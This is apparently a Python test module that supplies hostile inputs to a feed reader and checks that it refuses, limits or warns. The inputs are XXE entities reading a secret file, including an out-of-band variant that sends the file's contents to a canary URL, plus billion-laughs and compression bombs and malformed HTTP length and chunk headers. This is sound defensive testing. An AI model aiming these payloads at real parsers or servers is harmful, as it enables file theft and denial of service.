"""Hostile bodies: entities, bombs, sizes, and what is cut short (F01-F04, F22)."""

import gzip
import zlib
from collections.abc import Iterator

import brotli

from tests.articles.loopback import Request
from tests.drills.hostile_cases import (
    MIB,
    READ,
    Case,
    Outcome,
    Surroundings,
    all_of,
    atom,
    case,
    count_is,
    feed,
    items,
    page,
    raw,
    warns,
)


def cases(around: Surroundings, timeout_s: float) -> Iterator[Case]:
    """F01 to F04, and F22."""
    yield from _outer_entities(around)
    yield from _entity_bombs()
    yield from _packed()
    yield from _sizes(timeout_s)
    yield from _cut_short()


# --- entities ---------------------------------------------------------------------------------------------


def _declared(inner: str, use: str = "&x;", before: str = "") -> bytes:
    return feed(f"a {use} b", head=f"{before}<!DOCTYPE rss [\n{inner}\n]>\n")


def _outer_entities(around: Surroundings) -> Iterator[Case]:
    file, web = f"file://{around.secret}", around.canary
    told = all_of(warns("external entity ignored"), count_is(1))
    quiet = {
        "file": _declared(f'<!ENTITY x SYSTEM "{file}">'),
        "http": _declared(f'<!ENTITY x SYSTEM "{web}/entity">'),
        "public": _declared(f'<!ENTITY x PUBLIC "-//W3C//DTD" "{web}/public">'),
        "parameter": _declared(f'<!ENTITY % p SYSTEM "{web}/p.dtd"> %p;', ""),
        "parameter out of band": _declared(
            f"<!ENTITY % f SYSTEM '{file}'><!ENTITY % e '<!ENTITY x SYSTEM \"{web}/?%f;\">'> %e;"
        ),
        "php filter": _declared(
            f'<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource={around.secret}">'
        ),
        "ftp": _declared('<!ENTITY x SYSTEM "ftp://127.0.0.2/x">'),
        "UTF-16": _declared(f'<!ENTITY x SYSTEM "{file}">').decode().encode("utf-16"),
    }
    for form, body in quiet.items():
        yield case("F01", f"outer entity: {form}", body, READ, check=told)
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{file}"/>'
    other = {
        "in an attribute": feed(
            more="<enclosure url='&x;' type='image/png'/>", head=f"<!DOCTYPE rss [<!ENTITY x SYSTEM '{file}'>]>"
        ),
        "DTD": feed(head=f'<!DOCTYPE rss SYSTEM "{web}/rss.dtd">\n'),
        "DTD, public": feed(head=f'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "{web}/rss-0.91.dtd">\n'),
        "XInclude": feed(include),
        "XInclude of a site": feed(include.replace(file, f"{web}/include")),
        "stylesheet": feed(head=f'<?xml-stylesheet type="text/xsl" href="{web}/style.xsl"?>'),
        "schema": feed(
            channel=f"<title x:schemaLocation='urn:a {web}/a.xsd' xmlns:x='http://www.w3.org/2001/XMLSchema-instance'>f</title>"
        ),
        "Atom content elsewhere": atom(
            f"<title>t</title><link href='https://a.example/1'/><content src='{web}/content' type='text/html'/>"
        ),
        "Atom self and next": atom("<title>t</title><link href='https://a.example/1'/>", more=f" xml:base='{web}/'"),
        "enclosures and pictures": feed(
            body=f"&lt;img src='{web}/pixel.png'&gt;",
            more=f"<enclosure url='{web}/a.mp3' type='audio/mpeg' length='1'/>",
        ),
        "JSON Feed next_url": (
            f'{{"version": "https://jsonfeed.org/version/1.1", "title": "t", "next_url": "{web}/next",'
            f' "icon": "{web}/icon", "items": [{{"id": "1", "url": "https://a.example/1", "content_text": "x"}}]}}'
        ),
    }
    for form, other_body in other.items():
        yield case("F01", f"outer reference: {form}", other_body, READ, check=count_is(1))


def _laughs(levels: int, quote: str = '"', name: str = "ENTITY") -> str:
    lines = [f"<!{name} a0 {quote}ha ha ha ha ha{quote}>"]
    lines += [f"<!{name} a{level} {quote}{f'&a{level - 1};' * 10}{quote}>" for level in range(1, levels + 1)]
    return "\n".join(lines)


def _entity_bombs() -> Iterator[Case]:
    nine = _declared(_laughs(9), "&a9;")
    doctype = f"<!DOCTYPE rss [\n{_laughs(9)}\n]>\n"
    many = "".join(f'<!ENTITY e{number} "{"x" * 20}">' for number in range(400))
    bombs = {
        "laughs": nine,
        "five levels": _declared(_laughs(5), "&a5;"),
        "quadratic": _declared(f'<!ENTITY x "{"x" * 100_000}">', "&x;" * 100_000),
        "UTF-16": nine.decode().encode("utf-16"),
        "UTF-32": nine.decode().encode("utf-32"),
        "single quotes": _declared(_laughs(9, "'"), "&a9;"),
        "in Atom": atom("<title>&a9;</title>", head=doctype),
        "in an attribute": atom("<title>t</title><link href='https://a.example/&a9;'/>", head=doctype),
        "refers to itself": _declared('<!ENTITY x "&x;&x;">'),
        "refers in a circle": _declared('<!ENTITY x "&y;&y;"><!ENTITY y "&x;&x;">'),
        "four hundred entities": _declared(many, "&e1;"),
        "behind 100 KB of comment": _declared(_laughs(9), "&a9;", before=f"<!-- {'x' * 100_000} -->"),
        "behind 100 KB of blanks": _declared(_laughs(9), "&a9;", before="\n" * 100_000),
        "behind a processing instruction": _declared(_laughs(9), "&a9;", before=f"<?x {'y' * 100_000}?>"),
        "bracket in a comment of the doctype": _declared("<!-- ]> -->" + _laughs(9), "&a9;"),
        "packed": gzip.compress(nine),
    }
    for form, body in bombs.items():
        answer = page(body, Content_Encoding="gzip") if form == "packed" else page(body)
        yield case("F02", f"entity bomb: {form}", answer, "entity_limit", seconds=2.0, read_mib=200)
    # in lower case they declare nothing, and a reference to nothing is no bomb
    yield case(
        "F02",
        "entity bomb: lower case",
        _declared(_laughs(9, name="entity"), "&a9;"),
        "entity_limit",
        READ,
        "unreadable_feed",
    )
    hidden = _declared("<!ENTITY % a '<!ENTITY &#37; b \"x\">'>" * 50, "")
    yield case("F02", "entity bomb: parameters within", hidden, "entity_limit", READ, "unreadable_feed")


# --- packed and large -------------------------------------------------------------------------------------


def _packed() -> Iterator[Case]:
    zeros = bytes(64 * MIB)
    packed = gzip.compress(zeros, 1)
    bare = zlib.compressobj(1, zlib.DEFLATED, -15)
    raw_deflate = bare.compress(zeros) + bare.flush()
    huge = brotli.compress(bytes(256 * MIB), quality=1)
    member = gzip.compress(bytes(MIB))
    text = feed()
    for form, body, encoding in (
        ("gzip", packed, "gzip"),
        ("x-gzip", packed, "x-gzip"),
        ("gzip in capitals", packed, "GZIP"),
        ("zlib", zlib.compress(zeros, 1), "deflate"),
        ("raw deflate", raw_deflate, "deflate"),
        ("brotli", huge, "br"),
        ("forty members", member * 40, "gzip"),
        ("a feed, then a bomb", gzip.compress(text) + packed, "gzip"),
        ("identity, gzip", packed, "identity, gzip"),
    ):
        # One after the other, what each had inflated (10 MiB) may still be waiting to be freed: 115 MiB were seen.
        answer = page(body, Content_Encoding=encoding)
        yield case("F03", f"packed bomb: {form}", answer, "body_too_large", fetch_mib=140)
    for encoding in (
        "zstd",
        "compress",
        "exi",
        "pack200-gzip",
        "gzip, gzip",
        "br, gzip",
        ", ".join(["gzip"] * 40),
        "x" * 200,
    ):
        answer = page(gzip.compress(packed), Content_Encoding=encoding)
        yield case("F03", f"packed as {encoding[:24]} ({len(encoding)})", answer, "unsupported_encoding")
    twice = page(gzip.compress(gzip.compress(text)), Content_Encoding="gzip")
    yield case("F03", "gzip within gzip, one declared", twice, "not_a_feed", "unreadable_feed")
    for encoding in ("gzip", "deflate", "br"):
        answer = page(text, Content_Encoding=encoding)
        yield case("F03", f"said to be {encoding}, but is not", answer, "damaged_body", "protocol_error")
    good = gzip.compress(text)
    flipped = good[:-6] + bytes([good[-6] ^ 255]) + good[-5:]
    yield case("F03", "gzip with a wrong sum", page(flipped, Content_Encoding="gzip"), "damaged_body")
    yield case("F03", "gzip with rubbish after it", page(good + b"rubbish" * 1000, Content_Encoding="gzip"), READ)
    yield case("F03", "gzip that nobody declared", good, "not_a_feed", "unreadable_feed")


def _sizes(timeout_s: float) -> Iterator[Case]:
    def big(request: Request) -> None:
        request.send(200, b"", Content_Length=str(200 * MIB))
        for _ in range(200):
            request.wfile.write(bytes(MIB))

    def without_end(request: Request) -> None:
        request.close_connection = True
        request.wfile.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n")
        while True:
            request.wfile.write(bytes(2**16))

    def chunks(request: Request) -> None:
        request.send(200, b"", Transfer_Encoding="chunked", Content_Length="")
        while True:
            request.wfile.write(b"10000\r\n" + bytes(2**16) + b"\r\n")

    def tiny_chunks(request: Request) -> None:
        request.send(200, b"", Transfer_Encoding="chunked", Content_Length="")
        many = b"1\r\n \r\n" * 10_000
        while True:
            request.wfile.write(many)

    def packed_without_end(request: Request) -> None:
        request.send(200, b"", Transfer_Encoding="chunked", Content_Length="", Content_Encoding="gzip")
        packer = zlib.compressobj(1, zlib.DEFLATED, 31)
        while True:
            piece = packer.compress(bytes(4 * MIB))
            if piece:
                request.wfile.write(f"{len(piece):x}\r\n".encode() + piece + b"\r\n")

    for name, answer in (
        ("200 MB announced", big),
        ("endless, no length", without_end),
        ("endless chunks", chunks),
        ("endless packed chunks", packed_without_end),
        ("10 MiB and a byte", page(feed() + b" " * (10 * MIB))),
    ):
        yield case("F04", name, answer, "body_too_large")
    yield case("F04", "endless chunks of one byte", tiny_chunks, "body_too_large", "timeout", seconds=40.0)
    large = feed() + b" " * (10 * MIB - 1000)
    yield case("F04", "just under 10 MiB", large, READ, check=count_is(1), seconds=8.0, fetch_mib=140)
    whole = feed()
    cut = ("not_a_feed", "unreadable_feed", READ, "protocol_error")
    yield case("F04", "length too small", page(whole * 100, Content_Length="50"), *cut)
    for name, length in (("negative", "-1"), ("no number", "many"), ("hexadecimal", "0x10"), ("two", "5, 500000")):
        head = f"HTTP/1.1 200 OK\r\nContent-Length: {length}\r\n\r\n".encode()
        yield case("F04", f"length: {name}", raw(head, whole), "protocol_error")
    double = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 500\r\n\r\n"
    yield case("F04", "length twice", raw(double, whole), "protocol_error")
    yield case("F04", "length of 30 digits", page(whole, Content_Length="9" * 30), "body_too_large", "protocol_error")
    chunked = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    both = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (
        len(whole),
        whole,
    )
    yield case("F04", "chunks and a length", raw(both), "protocol_error", READ)
    # aiohttp may notice at once, or keep the request waiting for a body until our own deadline
    broken = ("protocol_error", "body_too_large", "timeout")
    for name, size in (
        ("no number", b"zz"),
        ("negative", b"-5"),
        ("enormous", b"f" * 40),
        ("a megabyte of it", b"0" * MIB),
    ):
        yield case(
            "F04",
            f"chunk size: {name}",
            raw(chunked, size + b"\r\n", whole),
            *broken,
            waits=True,
            seconds=timeout_s + 2,
        )
    extended = raw(chunked, b"5;a=" + b"x" * MIB + b"\r\n", whole)
    yield case("F04", "chunk with a megabyte of extension", extended, *broken, waits=True, seconds=timeout_s + 2)


def _cut_short() -> Iterator[Case]:
    text = items(*(f"<item><title>Article {n}</title><link>https://a.example/{n}</link></item>" for n in range(400)))
    half = {"gzip": gzip.compress(text), "deflate": zlib.compress(text), "br": brotli.compress(text)}

    def marked(outcome: Outcome) -> str:
        return "" if outcome.truncated else "not marked as truncated"

    for encoding, body in half.items():
        answer = page(body[: len(body) // 2], Content_Encoding=encoding, ETag='"1"')
        yield case(
            "F22", f"half of a {encoding}, length right", answer, READ, "unreadable_feed", "not_a_feed", check=marked
        )
    longer = page(text[:9000], Content_Length=str(len(text)), Connection="close")

    def short(request: Request) -> None:
        longer(request)
        request.close_connection = True

    yield case("F22", "less than announced", short, READ, check=marked)
    yield case(
        "F22",
        "chunks without an end",
        raw(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2328\r\n" + text[:9000] + b"\r\n"),
        READ,
        check=marked,
    )
    yield case(
        "F22", "cut in a character", page(feed("zażółć").split("ż".encode())[0] + b"\xc5"), READ, "unreadable_feed"
    )
    yield case(
        "F22", "nothing after the head", raw(b"HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n"), "protocol_error"
    )
